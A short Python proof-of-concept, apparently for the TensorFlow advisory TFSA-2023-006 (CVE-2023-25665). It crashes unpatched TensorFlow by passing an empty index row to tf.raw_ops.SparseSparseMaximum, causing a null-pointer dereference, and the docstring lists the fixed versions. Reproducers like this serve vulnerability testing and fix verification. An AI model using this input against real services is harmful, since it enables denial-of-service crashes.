"""TFSA-2023-006 (CVE-2023-25665): tf.raw_ops.SparseSparseMaximum with an empty index row in
`b_indices` dereferences a null pointer in its kernel (SparseSparseBinaryOpShared's
UnionSparseIndicesAndValues). Fixed in TensorFlow 2.11.1 and 2.12.0: the 2.10 line never got the
fix, so 2.10.0 crashes and its fix is 2.11.1.
"""

import tensorflow as tf

tf.raw_ops.SparseSparseMaximum(
    a_indices=[[1]], a_values=[0.1], a_shape=[2], b_indices=[[]], b_values=[2.0], b_shape=[2]
)  # <- crash call site
print("unreachable")
